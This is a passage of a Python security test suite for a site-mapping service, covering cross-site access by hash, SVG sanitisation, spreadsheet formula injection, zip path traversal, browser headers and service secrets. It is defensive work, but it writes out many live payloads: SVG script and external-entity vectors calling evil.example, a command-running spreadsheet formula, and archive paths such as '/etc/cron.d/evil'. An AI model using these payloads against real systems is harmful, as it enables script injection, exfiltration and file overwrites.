"""C1 to C12: what leaks or misleads without breaking in.

Drawings and archives are judged by what is served or exported again: a server may refuse or
clean them.
"""

import csv
import hashlib
import io
import json
import os
import pathlib
import pwd
import re
import signal
import struct
import subprocess
import tempfile
import threading
import time
import uuid
import zipfile
import zlib

import programs
from house_of_attacks import ROOT, SECRET, attack, control, document, refuse, scan

EVIL = "evil.example"


def new_site(house, site: str, **members) -> str:
    """A site of its own, with a token of its administrator, which is given back."""
    answer = house.send("PUT", f"/v1/sites/{site}", house.owner, document(site) | members,
                        {"if-match": "*"})
    if answer.status == 412:
        answer = house.send("PUT", f"/v1/sites/{site}", house.owner, document(site) | members)
    control(answer.is_good, f"publishes {site}: {answer}")
    return house.token("administrator", site)


def svg(inside: str, head: str = "") -> bytes:
    return (f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>'
            ).encode()


def keep(house, token: str, body: bytes, kind: str = "image/svg+xml"):
    return house.send("POST", "/v1/media", token, body, {"content-type": kind})


# C1: files and radio maps by their hash alone.

def strangers(house) -> dict[str, str]:
    """Everybody who has nothing to do with site a."""
    return {name: house.tokens[name] for name in (
        "administrator-b", "analyst-b", "surveyor-b", "visitor-b", "device-b")} | {
        "service": SECRET, "nobody": ""}


@attack("C1", "a file of another site is read, tested for or drawn by its hash")
def file_by_hash(house):
    secret = f"plan-of-the-vault-{uuid.uuid4()}"
    made = keep(house, house.tokens["administrator-a"], svg(f"<title>{secret}</title>"))
    control(made.status == 201, f"a file is kept: {made}")
    found = made.json["media"]["hash"]
    control(secret.encode() in house.get(
        f"/v1/media/{found}", house.tokens["administrator-a"]).body, "an editor gets the file")
    unknown = hashlib.sha256(secret.encode()).hexdigest()
    asks = [("GET", "", {}), ("GET", "", {"range": "bytes=0-400"}), ("HEAD", "", {}),
            ("GET", "", {"if-none-match": f'"{found}"'}), ("GET", "?site=a", {}),
            ("GET", "?site=b", {}), ("POST", "/picture?site=b", {})]
    # The published site does not name it, so its visitors may not see it, either.
    readers = strangers(house) | {"visitor-a": house.tokens["visitor-a"]}
    for who, token in readers.items():
        for method, rest, headers in asks:
            got, none = (house.send(method, f"/v1/media/{name}{rest}", token, None, {
                field: value.replace(found, name) for field, value in headers.items()})
                for name in (found, unknown))
            refuse(secret.encode() not in got.body, f"{who} read the file: {method} {rest} {got}")
            refuse((got.status, got.json) == (none.status, none.json),
                   f"{who} learns that there is such a file: {method} {rest} {got}, else {none}")


@attack("C1", "a file becomes one's own by naming its hash in one's own site")
def file_by_naming(house):
    secret = f"named-{uuid.uuid4()}"
    drawing = svg(f"<title>{secret}</title>")
    reference = keep(house, house.tokens["administrator-a"], drawing).json["media"]
    own = new_site(house, "c1-naming")
    content = {"place": {"room": "a"}, "title": "T",
               "pictures": [{"media": reference, "caption": "x"}]}
    plan = {"floor": "ground", "image": reference, "widthPixels": 9, "heightPixels": 9,
            "alignment": {"x": 0, "y": 0, "metresPerPixel": 1, "bearingDegrees": 0}}
    whole = document("c1-naming") | {"contents": [content | {"id": "c"}]}
    sends = [("PUT", "/contents/c", content), ("PUT", "/floor-plans/p", plan), ("PUT", "", whole),
             ("PUT", "?version=draft", whole), ("PATCH", "", {"contents": whole["contents"]})]
    for method, rest, body in sends:
        house.send(method, f"/v1/sites/c1-naming{rest}", own, body, {"if-match": "*"})
        got = house.get(f"/v1/media/{reference['hash']}", own)
        refuse(secret.encode() not in got.body, f"{method} {rest} made it readable: {got}")
    owners = house.query("SELECT site FROM site_editor.media_owners WHERE hash = "
                         f"'{reference['hash']}'")
    refuse(owners == [["a"]], f"the file belongs to {owners} now")
    # The rightful way: whoever has sent the bytes may name them, just so.
    control(keep(house, own, drawing).is_good, "own bytes are kept")
    for method, rest, body in sends:
        answer = house.send(method, f"/v1/sites/c1-naming{rest}", own, body, {"if-match": "*"})
        control(answer.is_good, f"{method} {rest} of one's own file: {answer}")


@attack("C1", "sending the same bytes tells that another site has them")
def file_by_guessing(house):
    admin_a, admin_b = (house.tokens[f"administrator-{site}"] for site in "ab")
    answers = []
    for known in (True, False):
        drawing = svg(f"<title>guess-{uuid.uuid4()}</title>")
        if known:
            control(keep(house, admin_a, drawing).status == 201, "a keeps it first")
        answer = keep(house, admin_b, drawing)
        answers.append((answer.status, sorted(answer.headers), sorted(answer.json["media"])))
        control(keep(house, admin_b, drawing).status == 200, "one's own is told")
    refuse(answers[0] == answers[1], f"known {answers[0]}, unknown {answers[1]}")


@attack("C1", "a draft of another site, or what is hidden in one's own, is read or changed by edits")
def draft_by_edits(house):
    own = new_site(house, "c1-draft")
    surveyor = house.token("surveyor", "c1-draft")
    edits = "/v1/sites/c1-draft/draft/edits"

    def edit(token, *parts, **members):
        names = ("do", "kind", "record", "value")
        body = {"edits": [dict(zip(names, parts)) | {"id": str(uuid.uuid4())}]} | members
        return house.send("POST", edits, token, body)

    def refused(answer) -> bool:
        return not answer.is_good or "refused" in answer.json["results"][0]

    name = f"vault-{uuid.uuid4()}"
    hidden = {"name": name, "visibility": "hidden"}
    control(not refused(edit(own, "patch", "rooms", "b", hidden)), "an editor hides a room")
    control(not refused(edit(own, "put", "locations", "safe", {
        "floor": "ground", "room": "b", "x": 15, "y": 4, "name": name})), "with a location")
    place = {"floor": "ground", "room": "a", "x": 5, "y": 4}
    outsiders = strangers(house) | {"visitor": house.token("visitor", "c1-draft")}
    for who, token in outsiders.items():
        for path in (edits, f"{edits}/stream", "/v1/sites/c1-draft?version=draft",
                     "/v1/sites/c1-draft/map?version=draft",
                     "/v1/sites/c1-draft/floors/ground/map/part?version=draft",
                     "/v1/sites/c1-draft/review?version=draft"):
            answer = house.get(path, token)
            refuse(not answer.is_good, f"{who} reads {path}: {answer}")
        refuse(refused(edit(token, "put", "locations", "new", place)), f"{who} edits")
        answer = house.send("POST", "/v1/sites/c1-draft/draft/undo", token,
                            {"id": str(uuid.uuid4())})
        refuse(not answer.is_good, f"{who} undoes: {answer}")
    control(not refused(edit(surveyor, "put", "locations", "new", place)), "a surveyor makes one")
    for parts in (("patch", "locations", "safe", {"name": "x"}), ("remove", "locations", "safe"),
                  ("put", "locations", "safe", place), ("patch", "rooms", "a", {"name": "x"}),
                  ("put", "locations", "other", place | {"room": "b", "x": 15}),
                  ("patch", "rooms", "b", {"proposed": True}), ("remove", "floors", "ground"),
                  ("patch", "site", None, {"audience": "everyone"})):
        answer = edit(surveyor, *parts, together=True)
        refuse(refused(answer), f"a surveyor does {parts}: {answer}")
        refuse(name.encode() not in answer.body, f"a surveyor reads the name: {answer}")
    for path in (edits, "/v1/sites/c1-draft?version=draft", "/v1/sites/c1-draft/locations?version=draft",
                 "/v1/sites/c1-draft/floors/ground/map?version=draft",
                 "/v1/sites/c1-draft/map/overview?version=draft"):
        answer = house.get(path, surveyor)
        refuse(answer.is_good and name.encode() not in answer.body, f"{path} shows it: {answer}")
    for revision in (1, 2):
        answer = house.send("POST", "/v1/sites/c1-draft/draft/undo", surveyor,
                            {"id": str(uuid.uuid4()), "revision": revision})
        refuse(not answer.is_good, f"a surveyor undoes an administrator's edit: {answer}")


@attack("C1", "a radio map of another site is read by its hash")
def map_by_hash(house):
    found = house.get("/v1/sites/a/radio-map", house.tokens["analyst-a"]).json["radioMap"]
    name = next(value for value in re.findall(r'"([0-9a-f]{64})"', json.dumps(found)))
    rightful = house.get(f"/v1/radio-maps/{name}", house.tokens["analyst-a"])
    control(rightful.status == 200 and len(rightful.body) > 100, f"a's analyst gets it: {rightful}")
    unknown = hashlib.sha256(b"no map").hexdigest()
    people = strangers(house)
    # Services fetch the maps of all sites.
    people.pop("service")
    for who, token in people.items():
        for rest, headers in [("", {}), ("?site=a", {}), ("?site=b", {}), ("", {
                "if-none-match": f'"{name}"'}), ("", {"range": "bytes=0-99"})]:
            got, none = (house.get(f"/v1/radio-maps/{hash}{rest}", token, headers)
                         for hash in (name, unknown))
            refuse(rightful.body[:64] not in got.body, f"{who} read it: {rest} {got}")
            refuse((got.status, got.json) == (none.status, none.json),
                   f"{who} learns that there is such a map: {got}, else {none}")
        got = house.get("/v1/sites/a/radio-map", token)
        refuse(name.encode() not in got.body, f"{who} learns the hash: {got}")


# C2: drawings that do more than draw.

def check_drawings(house, drawings: dict[str, bytes], marks=(EVIL, "alert")):
    """None may come back with the mark that only what is active in it has."""
    token, through = house.tokens["administrator-a"], []
    for name, drawing in drawings.items():
        kept = keep(house, token, drawing)
        if not kept.is_good:
            control(kept.status in (415, 422), f"{name}: {kept}")
            continue
        served = house.get(f"/v1/media/{kept.json['media']['hash']}", token)
        refuse("sandbox" in served.headers.get("content-security-policy", "")
               and served.headers.get("x-content-type-options") == "nosniff",
               f"{name} is served so that a browser runs it: {served.headers}")
        if any(mark.encode() in served.body for mark in marks):
            through.append(f"{name}: {drawing.decode(errors='replace')}")
    control(keep(house, token, svg(f'<circle r="{time.time()}"/>')).is_good, "a drawing is kept")
    refuse(not through, "kept and served: " + "\n        ".join(through))


@attack("C2", "scripts, handlers and links in the ways that passed the block-list")
def drawings_of_the_review(house):
    space = "http://www.w3.org/2000/svg"
    link = 'xmlns:l="http://www.w3.org/1999/xlink"'
    check_drawings(house, {
        "prefixed script": svg(f'<s:script xmlns:s="{space}">alert(1)</s:script>'),
        "bracket in a value": svg('<g a=">" onclick="alert(1)"/>'),
        "bracket in a known value": svg('<g class=">" onclick="alert(1)"/>'),
        "image-set": svg(f"<style>g{{fill:image-set('https://{EVIL}/x' 1x)}}</style>"),
        "style attribute": svg(f'<g style="fill:image-set(\'https://{EVIL}/x\' 1x)"/>'),
        "prefixed handler": svg('<g xmlns:o="urn:x" o:onload="alert(1)"/>'),
        "animated link": svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
        "script link": svg(f'<a {link} l:href="java&#10;script:alert(1)"><g/></a>'),
        "data link": svg(f'<use {link} l:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'),
        "picture that is a drawing": svg(
            '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" class="alert"/>'),
        "foreign object": svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml" '
                              'onclick="alert(1)"/></foreignObject>'),
        "upper case": svg("<SCRIPT>alert(1)</SCRIPT>"),
        "html namespace": svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
        "xml:base": svg(f'<g xml:base="https://{EVIL}/"><use href="#x"/></g>'),
    })


@attack("C2", "what a declaration, an entity or another encoding brings in")
def drawings_by_declaration(house):
    plain = svg('<g onclick="alert(1)"/>').decode()
    check_drawings(house, {
        "entity": svg("<g>&x;</g>", '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'),
        "attribute by declaration": svg(
            "<g/>", '<!DOCTYPE svg [<!ATTLIST g onclick CDATA "alert(1)">]>'),
        "external entity": svg(
            "<g>&x;</g>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "https://{EVIL}/x">]>'),
        "external subset": svg("<g>&x;</g>", f'<!DOCTYPE svg SYSTEM "https://{EVIL}/x.dtd">'),
        "style sheet": svg("<g/>", f'<?xml-stylesheet href="https://{EVIL}/x.css"?>'),
        "style sheet behind": svg("<g/>") + f'<?xml-stylesheet href="//{EVIL}/x"?>'.encode(),
        "UTF-16": ('<?xml version="1.0" encoding="UTF-16"?>' + plain).encode("utf-16"),
        "said to be UTF-7": f'<?xml version="1.0" encoding="UTF-7"?>{plain}'.encode(),
        "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + svg(
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    }, marks=(EVIL, "onclick", "<script", "+ADw-"))


@attack("C2", "a style sheet is imported by splitting or nesting the element style")
def drawings_by_style(house):
    wanted = f'@import "https://{EVIL}/x.css";'
    check_drawings(house, {
        "plain": svg(f"<style>{wanted}</style>"),
        "nested": svg(f"<style>{wanted}<style></style></style>"),
        "nested, more behind": svg(f"<style>{wanted}<style>g{{}}</style>g{{fill:red}}</style>"),
        "split by an element": svg(f"<style>@imp<g/>ort 'https://{EVIL}/x.css';</style>"),
        "split by a comment": svg(f"<style>@imp<!-- -->ort 'https://{EVIL}/x.css';</style>"),
        "split by CDATA": svg(f"<style>@im<![CDATA[port 'https://{EVIL}/x.css';]]></style>"),
        "escape": svg(f"<style>@\\69mport 'https://{EVIL}/x.css';</style>"),
        "comment within": svg(f"<style>g{{fill:u/**/rl(https://{EVIL}/x)}}</style>"),
        "new function": svg(f"<style>g{{fill:src('https://{EVIL}/x')}}</style>"),
        "font": svg(f"<style>@font-face{{font-family:x;src:url(https://{EVIL}/x)}}</style>"),
    })


@attack("C2", "an inert word of XML is an element to a page that inlines the drawing as HTML")
def drawings_by_parser(house):
    picture = f"<img src=//{EVIL}/x onerror=alert(1)>"
    check_drawings(house, {
        # HTML ends these comments at once (WHATWG HTML 13.2.5.43); XML goes on to the next -->.
        "comment": svg(f"<!-->{picture}-->"),
        "comment before": svg("<g/>", f"<!-->{picture}-->"),
        # Within title and desc HTML knows no CDATA: a comment up to the next >.
        "CDATA in title": svg(f"<title><![CDATA[>{picture}]]></title>"),
        "CDATA in desc": svg(f"<desc><![CDATA[>{picture}]]></desc>"),
        "document type": svg("<g/>", f'<!DOCTYPE svg SYSTEM ">{picture}">'),
    }, marks=("onerror",))


@attack("C2", "elements of HTML pass as what an editor notes of itself")
def drawings_by_notes(house):
    space = 'xmlns="http://creativecommons.org/ns#"'
    check_drawings(house, {
        "script": svg(f"<metadata><script {space}>alert(1)</script></metadata>"),
        "frame": svg(f'<p {space}/><iframe {space} src="javascript:alert(1)"/>'),
        "picture": svg(f'<img {space} src="https://{EVIL}/x"/>'),
        "meta": svg(f'<meta {space} http-equiv="refresh" content="0;url=https://{EVIL}/"/>'),
        "form": svg(f'<p {space}/><form {space} action="https://{EVIL}/"><input name="x"/></form>'),
        "handler": svg(f'<p {space} onclick="alert(1)"/>'),
    })


# C3: formulas in tables.

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS = ["=1+1", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\uff1d1+1", "'=1+1", "=\"a\"&1",
            "-", "=HYPERLINK(\"http://" + EVIL + "\")"]


def is_formula(cell: str) -> bool:
    if not cell or cell[0] not in STARTS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(table: bytes, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table.decode()), delimiter=delimiter)
            for cell in row]


def named_rooms(names: list[str]) -> list[dict]:
    return [{"id": f"r{number}", "floor": "ground", "name": name, "kind": "lab", "outline": [
        [number, 0], [number + 0.9, 0], [number + 0.9, 8], [number, 8]]}
        for number, name in enumerate(names)]


def rooms_table(house, site: str, names: list[str]) -> tuple[bytes, str]:
    """The table of a site whose rooms have such names, and its administrator."""
    admin = new_site(house, site, rooms=named_rooms(names), locations=[], connections=[])
    answer = house.get(f"/v1/sites/{site}/export?format=rooms", admin)
    control(answer.is_good and b"r0" in answer.body, f"the table is given: {answer}")
    return answer.body, admin


@attack("C3", "a room's name is a formula in the table of rooms")
def formula_in_name(house):
    table, admin = rooms_table(house, "c3-names", FORMULAS)
    wrong = [cell for cell in cells(table, ",") if is_formula(cell)]
    refuse(not wrong, f"cells that a spreadsheet runs: {wrong}")
    # The table still says the names: it comes back without a change.
    back = house.send("POST", "/v1/sites/c3-names/imports?format=rooms", admin, table,
                      {"content-type": "text/csv"})
    control(back.is_good and back.json["changed"] is False, f"the table comes back: {back}")


@attack("C3", "a formula behind a semicolon, where the spreadsheet's own list separator is one")
def formula_behind_semicolon(house):
    table, _ = rooms_table(house, "c3-semicolon", ["Lab;=1+1", "Lab;@SUM(1)", "Lab,;=1+1;", "x;'=1"])
    wrong = [cell for cell in cells(table, ";") if is_formula(cell)]
    refuse(not wrong, f"cells of a spreadsheet set to semicolons: {wrong} in {table.decode()!r}")


@attack("C3", "a formula in a stranger's file goes through an import and the command line")
def formula_in_file(house):
    rooms = named_rooms(FORMULAS)
    file = house.folder / "formulas.json"
    admin = new_site(house, "c3-file")
    site = document("c3-file") | {"rooms": rooms, "locations": [], "connections": []}
    site["buildings"][0]["name"] = site["floors"][0]["level"] = "=1+1"
    answer = house.send("PUT", "/v1/sites/c3-file?version=draft", admin, site, {"if-match": "*"})
    control(answer.is_good, f"a draft: {answer}")
    geojson = house.get("/v1/sites/c3-file/export?format=geojson&version=draft", admin).body
    stranger = new_site(house, "c3-stranger")
    answer = house.send("POST", "/v1/sites/c3-stranger/imports?format=geojson", stranger, geojson,
                        {"content-type": "application/geo+json"})
    control(answer.is_good, f"the stranger's file is imported: {answer}")
    tables = [house.get(f"/v1/sites/c3-stranger/export?format={kind}&version=draft", stranger).body
              for kind in ("rooms", "access-points")]
    file.write_text(json.dumps(site))
    out = house.folder / "rooms.csv"
    done = subprocess.run(house.command("export", "rooms", file, "--output", out),
                          env=house.environment, capture_output=True, text=True)
    control(done.returncode == 0, done.stderr)
    control(b"1+1" in tables[0] and b"1+1" in out.read_bytes(), "the names are in the tables")
    for table in [*tables, out.read_bytes()]:
        wrong = [cell for cell in cells(table, ",") if is_formula(cell)]
        refuse(not wrong, f"cells that a spreadsheet runs: {wrong}")


# C4: paths that lead out of an archive.

def zipped(files: list[tuple], base: bytes = b"") -> bytes:
    """Names, or whole headers, with their bytes, behind the files of another archive."""
    made = io.BytesIO(base)
    with zipfile.ZipFile(made, "a") as archive:
        for name, data in files:
            archive.writestr(name, data)
    return made.getvalue()


def imdf(house) -> bytes:
    answer = house.get("/v1/sites/a/export?format=imdf", house.tokens["administrator-a"])
    control(answer.is_good, f"an archive is given: {answer}")
    return answer.body


def names_within(archive: bytes) -> set[str]:
    """By the directory and by each file's own header."""
    opened = zipfile.ZipFile(io.BytesIO(archive))
    names = set(opened.namelist())
    for entry in opened.infolist():
        at = entry.header_offset
        size, = struct.unpack("<H", archive[at + 26:at + 28])
        names.add(archive[at + 30:at + 30 + size].decode("utf-8", "replace"))
    return names


def leads_out(name: str) -> bool:
    return name.startswith(("/", "\\", "~")) or ":" in name or ".." in re.split(r"[/\\]", name)


def pass_on(house, site: str, archive: bytes) -> tuple[set[str], object]:
    """Names in the export of a site that the archive was imported into; none where it is refused."""
    admin = new_site(house, site)
    answer = house.send("POST", f"/v1/sites/{site}/imports?format=imdf", admin, archive,
                        {"content-type": "application/zip"})
    if not answer.is_good:
        control(answer.status == 422, f"refused as a bad file: {answer}")
        return set(), answer
    export = house.get(f"/v1/sites/{site}/export?format=imdf&version=draft", admin)
    control(export.is_good, f"the archive is given: {export}")
    return names_within(export.body), answer


@attack("C4", "paths with .., roots, drives and backslashes are packed into the export")
def path_in_archive(house):
    good = imdf(house)
    control("extra/note.txt" in pass_on(house, "c4-good", zipped([("extra/note.txt", "x")], good))[0],
            "other files of an archive are kept")
    for number, name in enumerate([
            "../evil.txt", "/etc/cron.d/evil", "extra/../../evil.txt", "..\\evil.txt",
            "C:\\evil.txt", "extra/..", "./../evil.txt", "\\\\host\\evil.txt", "a//../../evil",
            "evil.txt\x01/../x"]):
        # zipfile cleans names that are told to its ZipInfo; the writing takes them as they are.
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        found, _ = pass_on(house, "c4-path", zipped([(entry, "evil")], good))
        wrong = [one for one in found if leads_out(one)]
        refuse(not wrong, f"the export holds {wrong}")


@attack("C4", "a link in the archive, and a file that goes through it")
def link_in_archive(house):
    link = zipfile.ZipInfo("extra")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    archive = zipped([(link, "../../etc"), ("extra/evil.txt", "x")], imdf(house))
    admin = new_site(house, "c4-link")
    answer = house.send("POST", "/v1/sites/c4-link/imports?format=imdf", admin, archive,
                        {"content-type": "application/zip"})
    control(answer.status in (200, 422), f"{answer}")
    export = house.get("/v1/sites/c4-link/export?format=imdf&version=draft", admin).body
    links = [entry.filename for entry in zipfile.ZipFile(io.BytesIO(export)).infolist()
             if entry.external_attr >> 16 & 0o170000 == 0o120000
             or zipfile.ZipFile(io.BytesIO(export)).read(entry) == b"../../etc"]
    refuse(not links, f"the export holds links: {links}")


@attack("C4", "the two headers of a file, or its further field, name different paths")
def names_that_differ(house):
    good = imdf(house)
    inner, outer = b"extra/aaaa.txt", b"../../evil.txt"
    whole = zipped([(inner.decode(), "x")], good)
    first, last = whole.find(inner), whole.rfind(inner)
    control(0 < first < last, "the name stands in both headers")
    unicode_path = b"\x01" + struct.pack("<I", zlib.crc32(b"plain.txt")) + outer
    entry = zipfile.ZipInfo("plain.txt")
    entry.extra = struct.pack("<HH", 0x7075, len(unicode_path)) + unicode_path
    for what, archive in {
            "the file's header": whole[:first] + outer + whole[first + len(inner):],
            "the directory": whole[:last] + outer + whole[last + len(inner):],
            "the Unicode path": zipped([(entry, "x")], good)}.items():
        found, answer = pass_on(house, "c4-differ", archive)
        wrong = [name for name in found if leads_out(name)]
        refuse(not wrong, f"{what}: the export holds {wrong}; {answer}")


@attack("C4", "an archive that was taken in before the repair is still packed again")
def archive_of_before(house):
    admin = new_site(house, "c4-before")
    answer = house.send("POST", "/v1/sites/c4-before/imports?format=imdf", admin,
                        zipped([("extra/note.txt", "x")], imdf(house)),
                        {"content-type": "application/zip"})
    control(answer.is_good, f"imported: {answer}")
    columns = dict(house.query(
        "SELECT column_name, data_type FROM information_schema.columns WHERE table_schema = "
        "'site_editor' AND table_name = 'imports'"))
    column = next(name for name, kind in columns.items() if kind == "bytea" and name in (
        "file", "bytes", "archive"))
    old = house.query(f"SELECT encode({column}, 'hex') FROM site_editor.imports "
                      "WHERE site = 'c4-before' AND format = 'imdf'")[0][0]
    # An entry of the same length, in both headers.
    evil = bytes.fromhex(old).replace(b"extra/note.txt", b"../../note.txt")
    house.query(f"UPDATE site_editor.imports SET {column} = decode('{evil.hex()}', 'hex') "
                "WHERE site = 'c4-before' AND format = 'imdf' RETURNING 1")
    export = house.get("/v1/sites/c4-before/export?format=imdf&version=draft", admin)
    control(export.is_good, f"the site can still be exported: {export}")
    wrong = [name for name in names_within(export.body) if leads_out(name)]
    refuse(not wrong, f"the export holds {wrong}")


# C5: what browsers are told of pages and of answers about people.

PAGES = ["/", "/sign-in", "/join", "/account"]


def directives(answer) -> dict[str, list[str]]:
    parts = [part.split() for part in answer.headers.get("content-security-policy", "").split(";")]
    return {part[0]: part[1:] for part in parts if part}


@attack("C5", "a page is framed, its base is moved, or its form sent elsewhere")
def framed_page(house):
    for path in PAGES:
        for asked in (path, f"{path}?x=<script>alert(1)</script>"):
            page = house.get(asked, headers={"origin": f"https://{EVIL}", "host": EVIL})
            control(page.status == 200 and b"<" in page.body, f"the page is there: {asked} {page}")
            policy = directives(page)
            for name, values in {"frame-ancestors": (["'none'"],), "base-uri": (["'none'"],),
                                 "form-action": (["'none'"], ["'self'"]),
                                 "default-src": (["'none'"],)}.items():
                refuse(policy.get(name) in values, f"{path} says {name} {policy.get(name)}")
            # Files of the server, and one script that stands in the app's page, by its hash.
            scripts = policy.get("script-src", [])
            refuse(scripts[:1] == ["'self'"] and len(scripts) <= 2
                   and all(one.startswith("'sha256-") for one in scripts[1:]),
                   f"{path} runs {scripts}")
            refuse(b"alert(1)" not in page.body, f"{path} shows what was asked")


@attack("C5", "what a setting names as frames is more than frames")
def embedding_setting(house):
    def checked(value: str):
        return subprocess.run(
            [*house.serve_command, "--check-config"], capture_output=True, text=True, timeout=30,
            env=house.environment | {"WHEREABOUTS_EMBEDDING": value})
    control(checked("https://museum.example").returncode == 0, "an origin is a good setting")
    for value in ["https://a.example; script-src *", "https://a.example\r\nX-Evil: 1",
                  "'self' *", "https://a.example/;base-uri *", "javascript:", "https:"]:
        done = checked(value)
        refuse(done.returncode != 0, f"{value!r} is a good setting")


@attack("C5", "an answer about people is kept by a cache")
def cached_answer(house):
    control(house.locates(), "there is a position")
    device = house.query("SELECT device, id FROM locator.positions WHERE site = 'a' LIMIT 1")[0]
    analyst, admin = house.tokens["analyst-a"], house.tokens["administrator-a"]
    asks = [(f"/v1/positions?device={device[0]}", {"accept": kind}) for kind in (
        "text/csv", "application/geo+json", "application/json")]
    asks += [(path, {}) for path in (
        "/v1/positions/latest", f"/v1/positions/{device[1]}", f"/v1/positions/{device[1]}/explain",
        "/v1/visits", "/v1/positions?limit=0", f"/v1/positions/{uuid.uuid4()}", "/v1/nothing",
        "/v1/sites/a/surveys", "/v1/sites/a/survey-reviews", "/v1/limits")]
    asks = [(path, headers, analyst) for path, headers in asks]
    asks += [(path, {}, admin) for path in (
        "/v1/tokens", "/v1/accounts", "/v1/invitations", "/v1/sites/a/export?format=rooms",
        "/v1/dead-letters?site=a", "/v1/services",
        "/v1/sites/a/draft/edits")]
    asks += [("/v1/session", {}, ""), ("/v1/positions", {}, ""), ("/v1/positions", {}, "wrong")]
    found, wrong = 0, []
    for path, headers, token in asks:
        answer = house.get(path, token, headers)
        found += answer.is_good
        said = answer.headers.get("cache-control", "")
        if "no-store" not in said:
            wrong.append(f"{path} says {said!r}: {answer}")
        tag = answer.headers.get("etag")
        if tag and answer.is_good:
            again = house.get(path, token, headers | {"if-none-match": tag})
            if "no-store" not in again.headers.get("cache-control", ""):
                wrong.append(f"{path} once more: {again} {again.headers}")
    refuse(not wrong, "\n      ".join(wrong))
    control(found >= 12, f"{found} of them answered")
    # What is the same for everybody may be kept.
    control("no-store" not in house.get("/page.js").headers["cache-control"], "/page.js")


@attack("C5", "names of people in outages are kept by a browser's cache")
def cached_names(house):
    admin = new_site(house, "c5-names")
    made = house.send("POST", "/v1/outages", admin, {
        "connection": "door-ab", "reason": "stuck", "reportedBy": "Anna Example"})
    control(made.is_good, f"an outage is reported: {made}")
    refuse("no-store" in made.headers.get("cache-control", ""), f"the report: {made.headers}")
    found = house.get("/v1/outages", house.token("visitor", "c5-names"))
    said = found.headers.get("cache-control", "")
    refuse("no-store" in said or b"Anna" not in found.body, f"/v1/outages says {said!r}: {found}")


@attack("C5", "a browser comes back over plain HTTP, as the proxy's file lets it")
def plain_http(house):
    lines = (ROOT / "deploy/Caddyfile").read_text().splitlines()
    at = [number for number, line in enumerate(lines) if "Strict-Transport-Security" in line]
    refuse(bool(at), "the proxy says nothing of HTTPS")
    age = int(re.search(r"max-age=(\d+)", lines[at[0]])[1])
    refuse(age >= 15_552_000, f"HTTPS is remembered for {age} s only")
    condition = next((word for word in lines[at[0]].split() if word.startswith("@")), None)
    if condition:
        matcher = next(line for line in lines if line.split()[:1] == [condition])
        refuse(matcher.split()[1:] == ["not", "host", "localhost", "127.0.0.1"],
               f"only where {matcher.strip()}")
    opened = [line for line in lines if line.rstrip().endswith("{") and line[:1] not in "\t #("]
    refuse(not any("http://" in line or ":80" in line for line in opened), f"plain: {opened}")
    refuse(not any("auto_https" in line for line in lines), "redirects to HTTPS are turned off")


# C6: the secret of the services.

def checks_configuration(house, service: str = "", **environment):
    """By the program of one service, or by that of all."""
    program = programs.command(house.programs, service or "serve")
    both = house.environment | environment
    return subprocess.run(
        [*program, "--check-config"], capture_output=True, text=True, timeout=30,
        env={name: value for name, value in both.items() if value is not None})


@attack("C6", "a secret that can be guessed is taken")
def short_secret(house):
    control(checks_configuration(house).returncode == 0, "a long one is good")
    file = house.folder / "short-secret"
    # Line breaks at the end of a file are not part of the secret.
    for text in ["x" * 31, "x", "\u00e9" * 15, "x" * 31 + "\n", "x" * 30 + "\r\n"]:
        file.write_bytes(text.encode())
        from_file = {"WHEREABOUTS_SERVICE_SECRET": None, "WHEREABOUTS_SERVICE_SECRET_FILE": str(file)}
        for settings in [{"WHEREABOUTS_SERVICE_SECRET": text.strip()}, from_file]:
            done = checks_configuration(house, **settings)
            refuse(done.returncode != 0, f"{text!r} is taken from {list(settings)[-1]}")
            refuse(len(text.strip()) < 2 or text.strip() not in done.stdout + done.stderr,
                   f"the secret is printed: {done.stdout + done.stderr}")
    # Without one, a service would make up its own: only where it runs alone.
    control(checks_configuration(
        house, "router", WHEREABOUTS_LOCATOR_URL="http://127.0.0.1:1").returncode == 0, "a router")
    done = checks_configuration(house, "router", WHEREABOUTS_SERVICE_SECRET=None,
                                WHEREABOUTS_LOCATOR_URL="http://127.0.0.1:1")
    refuse(done.returncode != 0, "services run apart without a secret")


@attack("C6", "who has the services' secret reads positions, sites and tokens, or changes them")
def secret_as_token(house):
    control(house.locates(), "there is a position")
    position = house.query("SELECT id FROM locator.positions WHERE site = 'a' LIMIT 1")[0][0]
    paths = json.loads((ROOT / "docs/openapi.json").read_text())["paths"]
    values = {"site": "a", "id": position, "floor": "ground", "version": "1", "other": "1",
              "hash": "0" * 64, "secret": "0" * 32, "topic": "whereabouts.scans", "partition": "0", "offset": "1",
              "scanner": "pi-1", "zoom": "15", "x": "0", "y": "0"}
    # What services ask each other for.
    own = {"GET /v1/radio-maps/{hash}", "GET /v1/sites/{site}/radio-map", "POST /v1/token-uses",
           "GET /v1/sites/{site}/access-points", "GET /v1/sites/{site}/versions/{version}",
           "GET /v1/day-keys", "GET /v1/erasures/{id}", "GET /v1/survey-erasures/{id}",
           "GET /v1/kept-positions", "GET /v1/kept-surveys", "POST /v1/locate",
           "POST /v1/scan-requests/{id}/handed-result"}
    asked = 0
    for pattern, methods in paths.items():
        for method in methods.keys() & {"get", "put", "post", "patch", "delete"}:
            name = f"{method.upper()} {pattern}"
            is_open = methods[method].get("security") == []
            if name in own or is_open or not pattern.startswith("/v1/"):
                continue
            path = re.sub(r"\{(\w+)\}", lambda part: values[part[1]], pattern)
            answer = house.send(method.upper(), f"{path}?site=a&confirm=a", SECRET,
                                None if method in ("get", "delete") else {})
            asked += 1
            # Google's form of a refusal.
            is_key_refused = name == "POST /v1/geolocate" and "keyInvalid" in str(answer)
